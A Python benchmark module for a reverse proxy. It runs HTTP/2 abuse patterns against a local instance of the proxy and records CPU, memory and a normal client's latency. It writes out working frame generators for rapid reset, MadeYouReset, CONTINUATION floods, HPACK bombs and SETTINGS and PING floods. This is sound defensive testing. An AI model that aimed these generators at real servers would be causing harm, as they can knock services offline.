"""What clients of HTTP/2 that abuse it cost the proxy, and what a normal client beside each notices. Runs programs.

Each attack has one connection, sends as fast as it is read, and ends when the proxy ends the connection, after `--seconds`, or at
`--megabytes`. The client beside it sends a small GET over HTTP/1.1 every 5 ms; what that costs alone is taken off.
"""

from __future__ import annotations

import argparse
import http.client
import multiprocessing
import shlex
import socket
import statistics
import struct
import sys
import threading
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from benchmarks.machine import describe_machine
from benchmarks.processes import PROXY_CORE, free_port
from benchmarks.stage import API_HOST, INTERPRETED, open_stage
from proxy.relay.http2 import frames
from proxy.relay.http2.encoder import format_integer, format_secret

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from multiprocessing.connection import Connection
    from pathlib import Path

    from benchmarks.processes import Program
    from benchmarks.stage import Stage

_CODES: Final = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}
_PAUSE_S: Final = 0.005
_CONF: Final = """
listeners: [{{ address: "127.0.0.1:{port}", mode: reverse, upstream: "https://{host}" }}]
credentials:
  bench:
    token_endpoint: https://localhost:{tls_port}/token
    ca_file: {ca_file}
    client_id: bench
    certificate: {client_certificate}
routes: [{{ hosts: [{host}], credential: bench, scope: api://bench/.default, dial: "127.0.0.1:{tls_port}", ca_file: {ca_file} }}]
admin: {{ address: "127.0.0.1:{admin_port}" }}
state_directory: {directory}/state
access_log: {{ file: {directory}/access.log, format: json }}
"""


@dataclass(frozen=True, slots=True)
class Effect:
    """What one attack did.

    Attributes:
        frames: sent.
        sent_bytes: of them.
        answer: how the proxy ended it.
        cpu_s: of the proxy, without its work for the client beside.
        grown_bytes: of the proxy's resident memory, at the most.
        median_s, worst_s: latencies of the client beside.
        failed: its requests that were not answered with 200.
    """

    frames: int
    sent_bytes: int
    answer: str
    cpu_s: float
    grown_bytes: int
    median_s: float
    worst_s: float
    failed: int


# What is sent: a beginning, and then one piece after the other with the number of its frames.


def _head(method: bytes) -> bytes:
    fields = ((b":method", method), (b":scheme", b"https"), (b":path", b"/json"), (b":authority", API_HOST.encode()))
    return b"".join(format_secret(*field) for field in fields)


def _headers(stream_id: int, *, ends: bool = True, extra: bytes = b"") -> bytes:
    return frames.format_block(stream_id, _head(b"GET" if ends else b"POST") + extra, ends=ends)


def _reset(stream_id: int) -> bytes:
    return frames.format_reset(stream_id, 8)


def _in_packs(one: bytes, count: int = 1) -> Iterator[tuple[bytes, int]]:
    while True:
        yield one * 200, count * 200


def _of_streams(make: Callable[[int], bytes], count: int) -> Iterator[tuple[bytes, int]]:
    stream_id = 1
    while stream_id < frames.HIGHEST_STREAM - 200:
        yield b"".join(make(stream_id + 2 * each) for each in range(50)), count * 50
        stream_id += 100


def _rapid_reset() -> Iterator[tuple[bytes, int]]:
    return _of_streams(lambda one: _headers(one) + _reset(one), 2)


def _made_you_reset() -> Iterator[tuple[bytes, int]]:
    return _of_streams(lambda one: _headers(one, ends=False) + struct.pack(">HBBBLL", 0, 4, 8, 0, one, 0), 2)


def _continuation() -> Iterator[tuple[bytes, int]]:
    yield frames.format_frame(frames.HEADERS, 0, 1, _head(b"GET")), 1
    yield from _in_packs(frames.format_frame(frames.CONTINUATION, 0, 1, format_secret(b"a", b"b")))


def _large_entry() -> bytes:
    """A field of 4,000 bytes that enters the table; `0xbe` is a reference to it."""
    value = b"v" * 3_900
    return b"\x40\x01a" + format_integer(len(value), 0x7F, 0) + value


def _hpack_bomb() -> Iterator[tuple[bytes, int]]:
    yield _headers(1, extra=_large_entry()), 1
    yield from _of_streams(lambda one: _headers(one + 2, extra=b"\xbe" * 60), 1)


def _bomb_behind_a_closed_window() -> Iterator[tuple[bytes, int]]:
    yield frames.format_settings([(frames.INITIAL_WINDOW_SIZE, 0)]) + _headers(1, extra=_large_entry()), 2
    yield b"".join(_headers(3 + 2 * each, ends=False, extra=b"\xbe" * 15) for each in range(99)), 99
    while True:
        time.sleep(0.1)
        yield b"", 0


def _settings_over_streams() -> Iterator[tuple[bytes, int]]:
    """Each entry changes the windows of all open streams."""
    yield b"".join(_headers(1 + 2 * each, ends=False) for each in range(100)), 100
    yield from _in_packs(frames.format_settings([(frames.INITIAL_WINDOW_SIZE, each % 2) for each in range(32)]))


def _empty_data() -> Iterator[tuple[bytes, int]]:
    yield _headers(1, ends=False), 1
    yield from _in_packs(frames.format_frame(frames.DATA, 0, 1, b""))


def _one_byte_data() -> Iterator[tuple[bytes, int]]:
    yield _headers(1, ends=False), 1
    yield from _in_packs(frames.format_frame(frames.DATA, 0, 1, b"x"))


def _late_resets() -> Iterator[tuple[bytes, int]]:
    yield _headers(1), 1
    yield from _in_packs(_reset(1))


def _window_updates() -> Iterator[tuple[bytes, int]]:
    yield _headers(1, ends=False), 1
    yield from _in_packs(frames.format_window_update(1, 1))


_PING: Final = frames.format_frame(frames.PING, 0, 0, b"12345678")
# The last member says whether the attacker reads what the proxy sends.
ATTACKS: Final[dict[str, tuple[Callable[[], Iterator[tuple[bytes, int]]], bool]]] = {
    "none": (lambda: iter(()), True),
    "rapid reset": (_rapid_reset, True),
    "MadeYouReset": (_made_you_reset, True),
    "resets of a closed stream": (_late_resets, True),
    "CONTINUATION without end": (_continuation, True),
    "HPACK bomb": (_hpack_bomb, True),
    "field bombs behind a closed window": (_bomb_behind_a_closed_window, True),
    "requests beyond the streams allowed": (lambda: _of_streams(lambda one: _headers(one, ends=False), 1), True),
    "requests whose answers are not read": (lambda: _of_streams(_headers, 1), False),
    "empty SETTINGS": (lambda: _in_packs(frames.format_settings([])), True),
    "SETTINGS that change 100 windows": (_settings_over_streams, True),
    "PING": (lambda: _in_packs(_PING), True),
    "PING whose answers are not read": (lambda: _in_packs(_PING), False),
    "empty DATA": (_empty_data, True),
    "DATA of one byte": (_one_byte_data, True),
    "PRIORITY": (lambda: _in_packs(frames.format_frame(frames.PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10")), True),
    "WINDOW_UPDATE": (_window_updates, True),
    "frames of an unknown type": (lambda: _in_packs(frames.format_frame(0x77, 0, 0, b"")), True),
}


def main() -> int:
    """Measure every attack in turn, and print the table."""
    parser = argparse.ArgumentParser(prog="python -m benchmarks.abuse", description=__doc__)
    parser.add_argument("--attacks", default=",".join(ATTACKS))
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--megabytes", type=int, default=64)
    parser.add_argument("--command", default=INTERPRETED, help="what starts our proxy, less `run --config FILE`")
    chosen = parser.parse_args()
    print("| attack | frames | MB | ends with | proxy CPU s | RSS | beside it: median | worst | failed |")
    print("|---|--:|--:|---|--:|--:|--:|--:|--:|", flush=True)
    with open_stage(chosen.command) as stage:
        for name in chosen.attacks.split(","):
            print(_format_row(name, _measure(stage, name, chosen.seconds, chosen.megabytes << 20)), flush=True)
    for line in describe_machine():
        print(f"- {line}")
    return 0


def _format_row(name: str, effect: Effect) -> str:
    return (
        f"| {name} | {effect.frames:,} | {effect.sent_bytes / 1e6:.1f} | {effect.answer} | {effect.cpu_s:.2f} "
        f"| {effect.grown_bytes / 1e6:+.1f} MB | {effect.median_s * 1e3:.1f} ms | {effect.worst_s * 1e3:.0f} ms "
        f"| {effect.failed} |"
    )


def _measure(stage: Stage, name: str, seconds: float, most_bytes: int) -> Effect:
    """Start a proxy of its own for each attack, so that none inherits another's memory."""
    port = free_port()
    with stage.start(
        [*shlex.split(stage.command), "run", "--config", str(_write_conf(stage, port))],
        [PROXY_CORE],
        stage.directory / "abused.log",
    ) as proxy:
        proxy.wait_for_line("ready")
        beside = _Beside(port, proxy)
        alone_s = beside.watch(1.5)  # warms up, too
        alone_s = beside.watch(1.5)
        ours, theirs = multiprocessing.Pipe()
        attacker = multiprocessing.Process(target=_attack, args=(theirs, port, name, seconds, most_bytes))
        resident = proxy.resident_bytes()
        beside.start_over()
        started, used = time.monotonic(), proxy.cpu_time()
        attacker.start()
        beside.watch(seconds + 1.0, until=ours.poll)
        sent, sent_bytes, answer = ours.recv()
        beside.watch(0.5)  # what the proxy still has to read
        lasted_s = time.monotonic() - started
        cpu_s = (proxy.cpu_time() - used).total_s - alone_s * lasted_s
        attacker.join()
        return Effect(
            sent,
            sent_bytes,
            answer,
            max(cpu_s, 0.0),
            beside.peak_bytes - resident,
            statistics.median(beside.latencies),
            max(beside.latencies),
            beside.failed,
        )


def _write_conf(stage: Stage, port: int) -> Path:
    conf = stage.directory / f"abused-{port}.yaml"
    conf.write_text(
        _CONF.format(
            port=port,
            admin_port=free_port(),
            host=API_HOST,
            tls_port=stage.tls_port,
            ca_file=stage.ca_file,
            client_certificate=stage.client_certificate,
            directory=stage.directory,
        )
    )
    return conf


class _Beside:
    """A normal client, and what it sees of the proxy's process."""

    def __init__(self, port: int, proxy: Program) -> None:
        self._port = port
        self._proxy = proxy
        self._connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        self.start_over()

    def start_over(self) -> None:
        """Forget what was seen."""
        self.latencies: list[float] = []
        self.failed = 0
        self.peak_bytes = 0

    def watch(self, seconds: float, until: Callable[[], object] = lambda: False) -> float:
        """Send requests for a while; return the proxy's CPU seconds in a second."""
        started, used = time.monotonic(), self._proxy.cpu_time()
        while time.monotonic() - started < seconds and not until():
            self._ask()
            if len(self.latencies) % 10 == 0:
                self.peak_bytes = max(self.peak_bytes, self._proxy.resident_bytes())
            time.sleep(_PAUSE_S)
        return (self._proxy.cpu_time() - used).total_s / (time.monotonic() - started)

    def _ask(self) -> None:
        begun = time.monotonic()
        try:
            self._connection.request("GET", "/json")
            response = self._connection.getresponse()
            response.read()
            if response.status != 200:
                self.failed += 1
        except (OSError, http.client.HTTPException):
            self.failed += 1
            self._connection.close()
        self.latencies.append(time.monotonic() - begun)


# The attacker, in a process of its own.


def _attack(told: Connection, port: int, name: str, seconds: float, most_bytes: int) -> None:
    make, reads = ATTACKS[name]
    connected = socket.create_connection(("127.0.0.1", port))
    connected.settimeout(seconds)
    received = bytearray()
    is_over = threading.Event()
    if reads:
        threading.Thread(target=_drain, args=(connected, received, is_over), daemon=True).start()
    sent = sent_bytes = 0
    give_up_at = time.monotonic() + seconds
    pieces = make()
    try:
        connected.sendall(frames.PREFACE + frames.format_settings([]))
        while time.monotonic() < give_up_at and sent_bytes < most_bytes and not is_over.is_set():
            piece, count = next(pieces, (b"", 0))
            if not piece:
                time.sleep(0.01)
                continue
            connected.sendall(piece)
            sent += count
            sent_bytes += len(piece)
        answer = "its time"
    except TimeoutError:
        answer = "no more of it is read"
    except OSError:
        is_over.wait(1.0)
        answer = "the connection is closed"
    told.send((sent, sent_bytes, _describe_end(bytes(received)) or answer))
    connected.close()


def _drain(connected: socket.socket, received: bytearray, is_over: threading.Event) -> None:
    while True:
        try:
            data = connected.recv(65_536)
        except TimeoutError:
            continue
        except OSError:
            break
        if not data:
            break
        received += data
        del received[:-64]
    is_over.set()


def _describe_end(tail: bytes) -> str:
    """What the last frame says, if it is GOAWAY."""
    at = tail.rfind(b"\x00\x00\x08\x07\x00\x00\x00\x00\x00")
    if at < 0 or len(tail) < at + 17:
        return ""
    code = int.from_bytes(tail[at + 13 : at + 17], "big")
    return f"GOAWAY, {_CODES.get(code, code)}"


if __name__ == "__main__":
    sys.exit(main())
